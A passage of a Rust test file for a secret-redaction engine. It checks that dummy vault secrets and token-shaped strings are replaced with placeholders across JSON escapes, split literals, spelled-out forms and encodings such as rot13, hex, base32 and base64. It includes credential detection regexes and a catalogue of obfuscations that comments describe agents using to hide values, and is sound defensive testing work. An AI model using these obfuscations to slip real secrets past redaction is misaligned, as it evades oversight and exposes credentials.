//! Table tests for the engine: layers alone and together, overlaps, escapes, positions.

use super::*;

const KEY: &[u8; 32] = b"0123456789abcdef0123456789abcdef";

const RULES: &str = r#"
[[rule]]
id = "github.pat"
description = "GitHub classic token"
regex = '''(ghp_[A-Za-z0-9]{36})'''
keywords = ["ghp_"]
examples = ["ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"]
negative_examples = ["ghp_short"]

[[rule]]
id = "pem.private_key"
description = "PEM private key block"
regex = '''-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----'''
keywords = ["PRIVATE KEY-----"]
examples = ["-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----"]
negative_examples = ["-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----"]
"#;

const TOKEN: &str = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789";

fn engine(secrets: &[(&str, &str)]) -> Redactor {
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    for (name, value) in secrets {
        b.secret(name, value.as_bytes());
    }
    b.rules(RuleSet::from_toml("test", RULES).unwrap());
    b.build().unwrap()
}

fn redact(engine: &Redactor, input: &str) -> String {
    String::from_utf8(engine.redact(input.as_bytes()).into_bytes()).unwrap()
}

#[test]
fn registry_table() {
    let e = engine(&[
        ("db_password", "hunter2-very-secret"),
        ("api", "sk-live-0000-1111"),
    ]);
    let cases: &[(&str, &str)] = &[
        ("hunter2-very-secret", "SECRET_REF(db_password)"),
        ("x hunter2-very-secret", "x SECRET_REF(db_password)"),
        ("hunter2-very-secret y", "SECRET_REF(db_password) y"),
        (
            "hunter2-very-secret hunter2-very-secret hunter2-very-secret",
            "SECRET_REF(db_password) SECRET_REF(db_password) SECRET_REF(db_password)",
        ),
        (
            "sk-live-0000-1111hunter2-very-secret",
            "SECRET_REF(api)SECRET_REF(db_password)",
        ),
        (
            "\"a\\nhunter2-very-secret\\\"\"",
            "\"a\\nSECRET_REF(db_password)\\\"\"",
        ),
        (
            "héllo wörld→hunter2-very-secret←ünïcode",
            "héllo wörld→SECRET_REF(db_password)←ünïcode",
        ),
        ("nothing here", "nothing here"),
    ];
    for (input, want) in cases {
        assert_eq!(redact(&e, input), *want, "input {input:?}");
    }
}

#[test]
fn regex_table() {
    let e = engine(&[]);
    let handle = redact(&e, TOKEN);
    assert!(
        handle.starts_with("SECRET_REF(github.pat.") && handle.len() == 31,
        "{handle}"
    );
    let cases: Vec<(String, String)> = vec![
        (
            format!("{TOKEN} at the start"),
            format!("{handle} at the start"),
        ),
        (
            format!("at the end {TOKEN}"),
            format!("at the end {handle}"),
        ),
        (
            format!("{TOKEN},{TOKEN} {TOKEN}"),
            format!("{handle},{handle} {handle}"),
        ),
        (
            format!("ünïcødé→{TOKEN}←日本"),
            format!("ünïcødé→{handle}←日本"),
        ),
        (format!("\"{TOKEN}\\n\""), format!("\"{handle}\\n\"")),
    ];
    for (input, want) in &cases {
        assert_eq!(&redact(&e, input), want, "input {input:?}");
    }
}

#[test]
fn registry_matches_json_escaped_form() {
    let e = engine(&[("quoted", "pa\"ss\\wo\nrd!")]);
    let json =
        serde_json::to_string(&serde_json::json!({ "text": "say pa\"ss\\wo\nrd! now" })).unwrap();
    let out = redact(&e, &json);
    assert_eq!(out, r#"{"text":"say SECRET_REF(quoted) now"}"#);
}

#[test]
fn registry_matches_a_secret_in_base32_at_any_alignment_and_written_backwards() {
    let e = engine(&[("hidden", "s3cr3t-Vault-Value-2024")]);
    // Python's base64.b32encode of the value followed by a newline, after 0 to 5 other bytes.
    for blob in [
        "OMZWG4RTOQWVMYLVNR2C2VTBNR2WKLJSGAZDICQ=",
        "NNZTGY3SGN2C2VTBOVWHILKWMFWHKZJNGIYDENAK",
        "NNSXGM3DOIZXILKWMF2WY5BNKZQWY5LFFUZDAMRUBI======",
        "NNSXS4ZTMNZDG5BNKZQXK3DUFVLGC3DVMUWTEMBSGQFA====",
        "NNSXSPLTGNRXEM3UFVLGC5LMOQWVMYLMOVSS2MRQGI2AU===",
        "NNSXSPJCOMZWG4RTOQWVMYLVNR2C2VTBNR2WKLJSGAZDICQ=",
    ] {
        let out = redact(&e, &format!("encoded: {blob} done"));
        assert!(out.contains("SECRET_REF(hidden)"), "{blob}: {out}");
    }
    assert_eq!(
        redact(&e, "reversed: 4202-eulaV-tluaV-t3rc3s."),
        "reversed: SECRET_REF(hidden)."
    );
}

/// Rewritten "so that it is not the secret": in capitals, in small letters, spaced out, in
/// groups of four as a key is read out or shown.
#[test]
fn registry_matches_a_secret_recased_or_spaced_out() {
    let e = engine(&[("hidden", "s3cr3t-Vault-Value-2024")]);
    for (text, want) in [
        (
            "caps: S3CR3T-VAULT-VALUE-2024.",
            "caps: SECRET_REF(hidden).",
        ),
        (
            "small: s3cr3t-vault-value-2024.",
            "small: SECRET_REF(hidden).",
        ),
        (
            "spaced: s 3 c r 3 t - V a u l t - V a l u e - 2 0 2 4.",
            "spaced: SECRET_REF(hidden).",
        ),
        (
            "read out: s3cr 3t-V ault -Val ue-2 024.",
            "read out: SECRET_REF(hidden).",
        ),
        (
            "shown: s3cr-3t-V-ault--Val-ue-2-024.",
            "shown: SECRET_REF(hidden).",
        ),
    ] {
        assert_eq!(redact(&e, text), want);
    }
}

/// Fullwidth forms (`Ｖａｕｌｔ`) read as the ASCII they mirror, to a model and so to every
/// layer: written raw or as `\u` escapes (Python's `ensure_ascii`), a known secret and a token
/// in them are replaced whole, and the text around stays as it was.
#[test]
fn fullwidth_forms_read_as_ascii() {
    let fullwidth = |text: &str| -> String {
        text.chars()
            .map(|c| match c {
                '!'..='~' => char::from_u32(c as u32 + 0xFEE0).unwrap(),
                _ => c,
            })
            .collect()
    };
    let escaped = |text: &str| -> String {
        text.chars()
            .map(|c| match c as u32 {
                0x80.. => format!("\\u{:04x}", c as u32),
                _ => c.to_string(),
            })
            .collect()
    };
    let e = engine(&[("hidden", "Vault-Value-2024")]);
    for written in [
        fullwidth("Vault-Value-2024"),
        escaped(&fullwidth("Vault-Value-2024")),
    ] {
        let body = format!(r#"{{"content":"（the key is {written}。）"}}"#);
        let out = redact(&e, &body);
        assert_eq!(
            out, r#"{"content":"（the key is SECRET_REF(hidden)。）"}"#,
            "{written}"
        );
    }
    // Only a symbol written fullwidth, in an escape: a registry-only engine reads the view
    // too.
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    b.secret("underscored", b"Vault_Value_2024");
    let registry_only = b.build().unwrap();
    let body = r#"{"content":"key Vault\uff3fValue\uff3f2024 ok"}"#;
    assert_eq!(
        redact(&registry_only, body),
        r#"{"content":"key SECRET_REF(underscored) ok"}"#
    );
    for written in [fullwidth(TOKEN), escaped(&fullwidth(TOKEN))] {
        let body = format!(r#"{{"content":"token {written}"}}"#);
        let out = redact(&e, &body);
        assert!(
            out.starts_with(r#"{"content":"token SECRET_REF(github.pat."#),
            "{out}"
        );
        assert!(out.ends_with(")\"}"), "{out}");
    }
}

#[test]
fn registry_matches_a_secret_obfuscated_as_agents_do_it() {
    let e = engine(&[("hidden", "Vault-Value-2024")]);
    // Each written as a request body would carry it (JSON, so `\x` escapes arrive doubled).
    for obfuscated in [
        "V-a-u-l-t---V-a-l-u-e---2-0-2-4",
        "Inhyg-Inyhr-2024",
        "56 61 75 6c 74 2d 56 61 6c 75 65 2d 32 30 32 34",
        "56 61 75 6C 74 2D 56 61 6C 75 65 2D 32 30 32 34",
        r"\\x56\\x61\\x75\\x6c\\x74\\x2d\\x56\\x61\\x6c\\x75\\x65\\x2d\\x32\\x30\\x32\\x34",
        "[86, 97, 117, 108, 116, 45, 86, 97, 108, 117, 101, 45, 50, 48, 50, 52]",
        "86,97,117,108,116,45,86,97,108,117,101,45,50,48,50,52",
    ] {
        let body = format!(r#"{{"content":"the key is {obfuscated}."}}"#);
        let out = redact(&e, &body);
        assert!(out.contains("SECRET_REF(hidden)"), "{obfuscated}: {out}");
        assert!(!out.contains("117"), "{obfuscated}: {out}");
    }
    // Not JSON: a printf escape as typed.
    let typed = r"printf '\x56\x61\x75\x6c\x74\x2d\x56\x61\x6c\x75\x65\x2d\x32\x30\x32\x34'";
    assert_eq!(redact(&e, typed), "printf 'SECRET_REF(hidden)'");
    // Spaced out a character at a time, not a byte: `é` stays whole.
    let e = engine(&[("accented", "clé-secrète-2024")]);
    assert_eq!(
        redact(&e, "c l é - s e c r è t e - 2 0 2 4"),
        "SECRET_REF(accented)"
    );
}

#[test]
fn registry_matches_a_secret_split_across_joined_string_literals() {
    let e = engine(&[("split", "Vault-Value-2024-xyz")]);
    // As typed, in code.
    assert_eq!(
        redact(&e, "const k = \"Vault-Val\" + 'ue-2024' +\n  \"-xyz\";"),
        "const k = \"SECRET_REF(split)\" + 'SECRET_REF(split)' +\n  \"SECRET_REF(split)\";"
    );
    // Inside tool-call arguments (a JSON document inside a JSON string), with text around
    // the value in the first and last pieces: only the value's bytes go, and the body stays
    // valid JSON.
    let arguments =
        serde_json::json!({ "code": r#"key = "id=Vault-Value" + "-2024-xyz!""# }).to_string();
    let body = serde_json::json!({ "arguments": arguments }).to_string();
    let out = redact(&e, &body);
    let outer: serde_json::Value = serde_json::from_str(&out).unwrap();
    let inner: serde_json::Value =
        serde_json::from_str(outer["arguments"].as_str().unwrap()).unwrap();
    assert_eq!(
        inner["code"],
        r#"key = "id=SECRET_REF(split)" + "SECRET_REF(split)!""#
    );
    // A variable between the pieces breaks the chain: nothing to join.
    assert_eq!(
        redact(&e, r#"k = "Vault-Value" + sep + "-2024-xyz""#),
        r#"k = "Vault-Value" + sep + "-2024-xyz""#
    );
}

#[test]
fn registry_matches_a_secret_spelled_out_a_character_at_a_time() {
    let e = engine(&[("spelled", "Vq7-pLm2Xz9k")]);
    for (text, expected) in [
        (
            "see V, q, 7, -, p, L, m, 2, X, z, 9, k.",
            "see SECRET_REF(spelled).",
        ),
        (
            "V\nq\n7\n-\np\nL\nm\n2\nX\nz\n9\nk\n",
            "SECRET_REF(spelled)\n",
        ),
        (
            "`V` `q` `7` `-` `p` `L` `m` `2` `X` `z` `9` `k`",
            "`SECRET_REF(spelled)`",
        ),
    ] {
        assert_eq!(redact(&e, text), expected, "{text:?}");
    }
    // An array of one-letter strings, inside a JSON request: the body stays valid JSON.
    let chars: Vec<String> = "Vq7-pLm2Xz9k".chars().map(String::from).collect();
    let body = serde_json::json!({ "content": serde_json::to_string(&chars).unwrap() }).to_string();
    let out = redact(&e, &body);
    let outer: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(outer["content"], r#"["SECRET_REF(spelled)"]"#);
    // Spelled-out text that is no vault value is left alone.
    let fine = "grades: A, B, A, C, B, A, A, B";
    assert_eq!(redact(&e, fine), fine);
}

/// A token no vault holds, spelled out a character at a time, is still read by the rules: a
/// model reads `g h p _ a B c ...` as the token.
#[test]
fn rules_read_a_token_spelled_out_a_character_at_a_time() {
    let e = engine(&[]);
    let chars: Vec<String> = TOKEN.chars().map(String::from).collect();
    for separator in [" ", ", ", "\n", " | "] {
        let text = format!("the token: {} (rotated)", chars.join(separator));
        let out = redact(&e, &text);
        assert!(
            out.starts_with("the token: SECRET_REF(github.pat.") && out.ends_with(") (rotated)"),
            "{out}"
        );
    }
    // As an array of one-character strings in a JSON request, which stays valid JSON.
    let body = serde_json::json!({ "content": serde_json::to_string(&chars).unwrap() }).to_string();
    let outer: serde_json::Value = serde_json::from_str(&redact(&e, &body)).unwrap();
    let content = outer["content"].as_str().unwrap();
    assert!(
        content.starts_with(r#"["SECRET_REF(github.pat."#),
        "{content}"
    );
    // Spelled-out text that holds no token is left alone.
    let fine = "a b c d e f g h i j k l m n o p q r s t u v w x y z 0 1 2 3 4 5 6 7 8 9";
    assert_eq!(redact(&e, fine), fine);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]
    /// A vault value spelled out a character at a time, with any one separator of one to
    /// four bytes without letters or digits between every two characters, is replaced whole.
    #[test]
    fn a_secret_spelled_out_with_any_separator_is_replaced(
        secret in "[A-Za-z0-9][A-Za-z0-9_!#%-]{6,22}[A-Za-z0-9]",
        separator in "[ ,;:|/\\n\\t.*`'\"]{1,4}",
    ) {
        // A search starts from two letters or digits spelled 17 bytes apart or closer
        // (`Masks::lone_token_pairs`): a value with none, such as `a%%%%!!0` spelled with
        // `'"`, is out of reach, and real secrets are mostly letters and digits.
        let period = separator.len() + 1;
        let token_at: Vec<usize> = secret
            .bytes()
            .enumerate()
            .filter(|(_, b)| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-')
            .map(|(i, _)| i)
            .collect();
        proptest::prop_assume!(token_at.windows(2).any(|w| (w[1] - w[0]) * period <= 17));
        let e = engine(&[("planted", &secret)]);
        let spelled: Vec<String> = secret.chars().map(String::from).collect();
        let text = format!("value: {} (done)", spelled.join(&separator));
        let out = redact(&e, &text);
        proptest::prop_assert_eq!(out, "value: SECRET_REF(planted) (done)".to_string(), "{:?}", text);
    }

    /// A vault value cut anywhere into joined quoted literals: every piece is replaced inside
    /// its quotes, whatever the quotes, the joiners (`+`, `.`, `..`, `&`, `||`, or white space
    /// alone) and the space around them.
    #[test]
    fn a_secret_cut_into_joined_literals_is_replaced_piece_by_piece(
        secret in "[A-Za-z0-9_-]{8,32}",
        cuts in proptest::collection::btree_set(1usize..32, 1..4),
        quotes in proptest::collection::vec(proptest::prelude::any::<bool>(), 4),
        operators in proptest::collection::vec(proptest::sample::select(
            vec!["+", ".", "..", "&", "||", ""]
        ), 4),
        spaces in proptest::collection::vec(proptest::prop_oneof![
            proptest::prelude::Just(""), proptest::prelude::Just(" "), proptest::prelude::Just("\n    ")
        ], 8),
    ) {
        let e = engine(&[("planted", &secret)]);
        let mut bounds: Vec<usize> = cuts.into_iter().filter(|&c| c < secret.len()).collect();
        proptest::prop_assume!(!bounds.is_empty());
        bounds.insert(0, 0);
        bounds.push(secret.len());
        let (mut code, mut expected) = (String::from("let k = "), String::from("let k = "));
        for (i, piece) in bounds.windows(2).enumerate() {
            let quote = if quotes[i] { '"' } else { '\'' };
            if i > 0 {
                // Literals joined by white space alone need some of it.
                let after = match (operators[i], spaces[2 * i + 1]) {
                    ("", "") => " ",
                    (_, space) => space,
                };
                let joiner = format!("{}{}{after}", spaces[2 * i], operators[i]);
                code.push_str(&joiner);
                expected.push_str(&joiner);
            }
            code.push_str(&format!("{quote}{}{quote}", &secret[piece[0]..piece[1]]));
            expected.push_str(&format!("{quote}SECRET_REF(planted){quote}"));
        }
        code.push(';');
        expected.push(';');
        proptest::prop_assert_eq!(redact(&e, &code), expected);
    }
}

#[test]
fn registry_matches_a_secret_inside_tool_call_arguments() {
    // OpenAI tool-call arguments: a JSON document inside a JSON string.
    let e = engine(&[("quoted", "pa\"ss\\word-1")]);
    let arguments = serde_json::json!({ "command": "login pa\"ss\\word-1" }).to_string();
    let body = serde_json::json!({ "arguments": arguments }).to_string();
    let out = redact(&e, &body);
    let outer: serde_json::Value = serde_json::from_str(&out).unwrap();
    let inner: serde_json::Value =
        serde_json::from_str(outer["arguments"].as_str().unwrap()).unwrap();
    assert_eq!(inner["command"], "login SECRET_REF(quoted)");
}

#[test]
fn overlapping_registry_secrets_take_the_longest() {
    let e = engine(&[("short", "abcdefgh"), ("long", "abcdefghijkl")]);
    assert_eq!(redact(&e, "abcdefghijkl"), "SECRET_REF(long)");
    assert_eq!(redact(&e, "abcdefgh-ijkl"), "SECRET_REF(short)-ijkl");
}

#[test]
fn overlap_across_layers_keeps_the_registry_name_and_leaves_nothing() {
    // The vault holds the tail of a token that the regex layer also finds.
    let tail = &TOKEN[10..];
    let e = engine(&[("tail", tail)]);
    let out = redact(&e, &format!("t={TOKEN}."));
    assert!(out.contains("SECRET_REF(tail)"), "{out}");
    assert!(out.contains("SECRET_REF(github.pat."), "{out}");
    assert!(!out.contains("ghp_"), "{out}");
    assert!(out.ends_with(')') || out.ends_with(")."), "{out}");
}

#[test]
fn regex_sees_through_json_escapes() {
    let e = engine(&[]);
    for glue in ["\\n", "\\\"", "\\t", "\\u0020", "\\/"] {
        let input = format!("{{\"t\":\"key:{glue}{TOKEN}{glue}end\"}}");
        let out = redact(&e, &input);
        assert!(!out.contains(TOKEN), "{glue}: {out}");
        assert!(
            out.contains(&format!("{glue}SECRET_REF(github.pat.")),
            "{glue}: {out}"
        );
        serde_json::from_str::<serde_json::Value>(&out).unwrap();
    }
}

/// The quotes of a JSON document are not a literal's: a message that ends in a quoted word and
/// a newline, then the document's `"},{"` and the next message, join nothing, and the
/// document's bytes are never replaced.
#[test]
fn the_document_s_own_quotes_join_no_literals() {
    let e = engine(&[
        ("split", "Vault-Val},{"),
        ("across", r#"Pass-Word","b":"ok12"#),
    ]);
    let body = r#"{"messages":[{"content":"run 'echo Vault-Val'\n"},{"content":"ok"}]}"#;
    assert!(serde_json::from_str::<serde_json::Value>(body).is_ok());
    assert_eq!(redact(&e, body), body);
    // Nor does a quoted word reach across the document's quotes into the next string.
    let body = r#"{"a":"x 'Pass-Word","b":"ok' + '12'"}"#;
    assert!(serde_json::from_str::<serde_json::Value>(body).is_ok());
    assert_eq!(redact(&e, body), body);
}

#[test]
fn regex_reads_a_token_split_across_joined_string_literals() {
    let e = engine(&[]);
    let (head, tail) = TOKEN.split_at(9);
    let code = format!(r#"const t = "{head}" + '{tail}';"#);
    let out = redact(&e, &code);
    assert!(!out.contains(head) && !out.contains(tail), "{out}");
    // One handle for both pieces: the value's, not each piece's.
    let handles: Vec<&str> = out.matches("SECRET_REF(github.pat.").collect();
    assert_eq!(handles.len(), 2, "{out}");
    let first = out.find("SECRET_REF(").unwrap();
    let handle = &out[first..first + out[first..].find(')').unwrap() + 1];
    assert_eq!(out, format!(r#"const t = "{handle}" + '{handle}';"#));
    // Two literals that are each something else, joined, are left alone.
    let fine = r#"const url = "https://example.com/" + "api/v1/users";"#;
    assert_eq!(redact(&e, fine), fine);
}

/// A JSON string nested in a JSON string (tool-call arguments, a JSON tool result): its
/// escapes are written twice (`\\n`, `\\\"`), and the rules see through both levels; so too
/// three and four levels down (a JSON file that a tool call writes), where a newline is
/// `\\\\n`.
#[test]
fn regex_sees_through_escapes_of_nested_json_strings() {
    // Word boundaries: `\\n` read as a backslash and an `n` would glue the `n` to the token.
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    let bounded = RULES.replace(
        "'''(ghp_[A-Za-z0-9]{36})'''",
        r"'''\b(ghp_[A-Za-z0-9]{36})\b'''",
    );
    b.rules(RuleSet::from_toml("test", &bounded).unwrap());
    let e = b.build().unwrap();
    for depth in 2..=4 {
        // serde_json writes a control character other than \n, \t as \u00XX.
        for glue in ["\n", "\"", "\t", "\u{1}", "\\"] {
            let mut input = serde_json::json!({
                "stdout": format!("key:{glue}{TOKEN}{glue}end"),
                "path": "C:\\",
            })
            .to_string();
            for _ in 1..depth {
                input = serde_json::json!({ "arguments": input, "n": 1 }).to_string();
            }
            let out = redact(&e, &input);
            assert!(!out.contains(TOKEN), "{depth} {glue:?}: {out}");
            // Every level stays valid JSON, and the glue is kept whole around the placeholder.
            let mut doc: serde_json::Value = serde_json::from_str(&out).unwrap();
            for _ in 1..depth {
                assert_eq!(doc["n"], 1);
                doc = serde_json::from_str(doc["arguments"].as_str().unwrap()).unwrap();
            }
            let stdout = doc["stdout"].as_str().unwrap();
            assert!(
                stdout.starts_with(&format!("key:{glue}SECRET_REF(github.pat.")),
                "{depth} {glue:?}: {stdout}"
            );
            assert!(
                stdout.ends_with(&format!("){glue}end")),
                "{depth} {glue:?}: {stdout}"
            );
            assert_eq!(doc["path"], "C:\\");
        }
    }
}

/// An escaped backslash that ends a string is not taken for the start of a nested escape
/// that would swallow the closing quote.
#[test]
fn a_backslash_ending_a_string_keeps_its_quote() {
    let e = engine(&[]);
    let input = format!(r#"{{"path":"C:\\","t":"{TOKEN}"}}"#);
    let out = redact(&e, &input);
    let parsed: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(parsed["path"], "C:\\");
    let t = parsed["t"].as_str().unwrap();
    assert!(t.starts_with("SECRET_REF(github.pat."), "{t}");
}

#[test]
fn pem_block_with_escaped_newlines_is_replaced_whole() {
    let e = engine(&[]);
    let pem =
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\nQ2x9Zp\n-----END RSA PRIVATE KEY-----";
    let json = serde_json::to_string(&serde_json::json!({ "k": pem, "n": 1 })).unwrap();
    let out = redact(&e, &json);
    let parsed: serde_json::Value = serde_json::from_str(&out).unwrap();
    let k = parsed["k"].as_str().unwrap();
    assert!(
        k.starts_with("SECRET_REF(pem.private_key.") && k.ends_with(')'),
        "{k}"
    );
    assert_eq!(parsed["n"], 1);
}

#[test]
fn detected_handles_are_stable_and_keyed() {
    let e = engine(&[]);
    let a = redact(&e, TOKEN);
    // The same value in another context, behind a JSON escape, gets the same handle.
    let elsewhere = redact(&e, &format!("{{\"k\":\"x\\n{TOKEN}\"}}"));
    assert_eq!(elsewhere, format!("{{\"k\":\"x\\n{a}\"}}"));
    let other = {
        let mut b = Redactor::builder(PlaceholderKey::from_bytes(&[7u8; 32]).unwrap());
        b.rules(RuleSet::from_toml("test", RULES).unwrap());
        b.build().unwrap()
    };
    assert_ne!(
        a,
        redact(&other, TOKEN),
        "a different key must give a different handle"
    );
    assert!(!a.contains("aBcDeF"));
}

#[test]
fn redaction_is_idempotent_on_placeholders() {
    let e = engine(&[("db_password", "hunter2-very-secret")]);
    let once = redact(&e, &format!("a hunter2-very-secret b {TOKEN} c"));
    assert_eq!(redact(&e, &once), once);
}

#[test]
fn a_replacement_that_frees_a_glued_token_is_redacted_in_the_same_call() {
    // Found by fuzzing: the registry secret ends in a letter glued to a token whose rule
    // wants a word boundary; once the secret is replaced, the token stands alone.
    let glued_rule = r#"
[[rule]]
id = "twilio.key"
description = "d"
regex = '''\b(SK[0-9a-f]{32})\b'''
keywords = ["SK"]
examples = ["SK0123456789abcdef0123456789abcdef"]
negative_examples = ["xSK0123456789abcdef0123456789abcdef"]
"#;
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    b.secret("glued", b"planted-secret-z");
    b.rules(RuleSet::from_toml("test", glued_rule).unwrap());
    let e = b.build().unwrap();
    let once = redact(&e, "a planted-secret-zSK0123456789abcdef0123456789abcdef b");
    assert!(
        once.starts_with("a SECRET_REF(glued)SECRET_REF(twilio.key."),
        "{once}"
    );
    assert_eq!(redact(&e, &once), once);
}

#[test]
fn registry_match_inside_an_escape_keeps_json_valid() {
    // Raw bytes `\nightly-build-42` contain "nightly-build-42" starting inside the `\n`.
    let e = engine(&[("n", "nightly-build-42")]);
    let json = r#"{"a":"x\nightly-build-42"}"#;
    let out = redact(&e, json);
    serde_json::from_str::<serde_json::Value>(&out).unwrap();
    assert!(!out.contains("ightly-build-42"), "{out}");
}

#[test]
fn findings_never_carry_values() {
    let e = engine(&[("db_password", "hunter2-very-secret")]);
    let input = format!("hunter2-very-secret {TOKEN}");
    let r = e.redact(input.as_bytes());
    let debug = format!("{r:?} {e:?}");
    assert!(!debug.contains("hunter2"), "{debug}");
    assert!(!debug.contains("aBcDeF"), "{debug}");
    assert_eq!(r.count(Layer::Registry), 1);
    assert_eq!(r.count(Layer::Regex), 1);
    assert_eq!(r.findings()[0].span, 0..19);
}

#[test]
fn builder_refuses_bad_secrets() {
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    b.secret("x", b"short");
    assert!(matches!(b.build(), Err(BuildError::SecretTooShort { .. })));
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    b.secret("bad name(", b"long enough value");
    assert!(matches!(
        b.build(),
        Err(BuildError::InvalidSecretName { .. })
    ));
    assert!(PlaceholderKey::from_bytes(b"short").is_err());
    let mut b = Redactor::builder(PlaceholderKey::from_bytes(KEY).unwrap());
    b.secret("github", b"my-GitHub-password-1");
    assert!(matches!(b.build(), Err(BuildError::NameInValue { .. })));
}

#[test]
fn rule_file_errors_name_the_rule() {
    let bad_regex = "[[rule]]\nid = \"x.y\"\ndescription = \"d\"\nregex = \"(\"\nexamples=[\"a\"]\nnegative_examples=[\"b\"]";
    let err = RuleSet::from_toml("f.toml", bad_regex)
        .err()
        .unwrap()
        .to_string();
    assert!(
        err.contains("f.toml") && err.contains("x.y") && err.contains("regex"),
        "{err}"
    );
    let no_examples = "[[rule]]\nid = \"x.y\"\ndescription = \"d\"\nregex = \"a\"";
    let err = RuleSet::from_toml("f.toml", no_examples)
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("example"), "{err}");
    let unknown = "[[rule]]\nid = \"x.y\"\ndescription = \"d\"\nregex = \"a\"\nbogus = 1";
    let err = RuleSet::from_toml("f.toml", unknown)
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("bogus") && err.contains("line"), "{err}");
}

#[test]
fn rules_share_ignore_sets_by_name() {
    let rule = |ignore: &str| {
        format!(
            "[ignore_sets]\nmasks = ['''^\\*+$''']\n[[rule]]\nid = \"x.y\"\ndescription = \"d\"\n\
             regex = '''pw=([^\\s\"]+)'''\nignore = [\"{ignore}\"]\nexamples=[\"pw=hunter2\"]\n\
             negative_examples=[\"pw=****\"]"
        )
    };
    let set = RuleSet::from_toml("f.toml", &rule("masks")).unwrap();
    assert!(set.check_examples().is_empty());
    let err = RuleSet::from_toml("f.toml", &rule("maks"))
        .err()
        .unwrap()
        .to_string();
    assert!(
        err.contains("\"maks\"") && err.contains("ignore_sets"),
        "{err}"
    );
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn planted_registry_secret_never_survives_and_json_stays_valid(
            before in "\\PC{0,40}", after in "\\PC{0,40}", secret in "[!-~]{8,40}",
        ) {
            let e = engine(&[("planted", &secret)]);
            let text = format!("{before}{secret}{after}");
            let json = serde_json::to_string(&serde_json::json!({ "t": text })).unwrap();
            let out = redact(&e, &json);
            let parsed: serde_json::Value = serde_json::from_str(&out).unwrap();
            let t = parsed["t"].as_str().unwrap();
            prop_assert!(!t.contains(&secret));
            prop_assert!(t.contains("SECRET_REF(planted)"));
        }

        #[test]
        fn redaction_never_panics_and_is_idempotent(input in proptest::collection::vec(any::<u8>(), 0..300)) {
            let e = engine(&[("planted", "hunter2-very-secret")]);
            let once = e.redact(&input).into_bytes();
            let twice = e.redact(&once).into_bytes();
            prop_assert_eq!(once, twice);
        }
    }
}

mod encodings {
    //! Every supported encoding of a registry secret is caught wherever it sits.
    use super::*;
    use base64::Engine as _;
    use proptest::prelude::*;

    fn percent(text: &str, upper: bool) -> String {
        text.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    (b as char).to_string()
                } else if upper {
                    format!("%{b:02X}")
                } else {
                    format!("%{b:02x}")
                }
            })
            .collect()
    }

    fn ensure_ascii_json(text: &str) -> String {
        let plain = serde_json::to_string(text).unwrap();
        let mut out = String::new();
        for ch in plain.chars() {
            if ch.is_ascii() {
                out.push(ch);
            } else {
                let mut units = [0u16; 2];
                for unit in ch.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{unit:04x}"));
                }
            }
        }
        out
    }

    /// (encoding name, the whole text encoded, the secret's own part of that encoding)
    fn encodings(prefix: &str, secret: &str, suffix: &str) -> Vec<(&'static str, String, String)> {
        let whole = format!("{prefix}{secret}{suffix}");
        let json = |s: &str| serde_json::to_string(s).unwrap();
        let inner = |s: String| s[1..s.len() - 1].to_owned();
        let mut out = vec![
            ("raw", whole.clone(), secret.to_owned()),
            ("json", json(&whole), inner(json(secret))),
            (
                "json-twice",
                json(&json(&whole)),
                inner(json(&inner(json(secret)))),
            ),
            (
                "json-ascii",
                ensure_ascii_json(&whole),
                inner(ensure_ascii_json(secret)),
            ),
            (
                "json-slash",
                json(&whole).replace('/', "\\/"),
                inner(json(secret)).replace('/', "\\/"),
            ),
            (
                "percent-upper",
                percent(&whole, true),
                percent(secret, true),
            ),
            (
                "percent-lower",
                percent(&whole, false),
                percent(secret, false),
            ),
            (
                "hex-lower",
                hex_string(whole.as_bytes(), false),
                hex_string(secret.as_bytes(), false),
            ),
            (
                "hex-upper",
                hex_string(whole.as_bytes(), true),
                hex_string(secret.as_bytes(), true),
            ),
        ];
        // What an agent told to obfuscate a value writes.
        let joined = |s: &str, sep: &str| s.chars().map(String::from).collect::<Vec<_>>().join(sep);
        let rot13 = |s: &str| {
            s.chars()
                .map(|c| match c {
                    'a'..='z' => (b'a' + (c as u8 - b'a' + 13) % 26) as char,
                    'A'..='Z' => (b'A' + (c as u8 - b'A' + 13) % 26) as char,
                    _ => c,
                })
                .collect::<String>()
        };
        let codes = |s: &str, code: &dyn Fn(u8) -> String, sep: &str| {
            s.bytes().map(code).collect::<Vec<_>>().join(sep)
        };
        out.push(("dashed", joined(&whole, "-"), joined(secret, "-")));
        out.push(("rot13", rot13(&whole), rot13(secret)));
        let hex_upper = |b: u8| format!("{b:02X}");
        let escaped = |b: u8| format!("\\x{b:02x}");
        let decimal = |b: u8| b.to_string();
        out.push((
            "hex-spaced",
            codes(&whole, &hex_upper, " "),
            codes(secret, &hex_upper, " "),
        ));
        out.push((
            "x-escaped",
            codes(&whole, &escaped, ""),
            codes(secret, &escaped, ""),
        ));
        out.push((
            "decimal",
            codes(&whole, &decimal, ", "),
            codes(secret, &decimal, ", "),
        ));
        let alignment = prefix.len() % 3;
        for (name, engine) in [
            ("base64", &base64::engine::general_purpose::STANDARD),
            ("base64url", &base64::engine::general_purpose::URL_SAFE),
        ] {
            let encoded = engine.encode(whole.as_bytes());
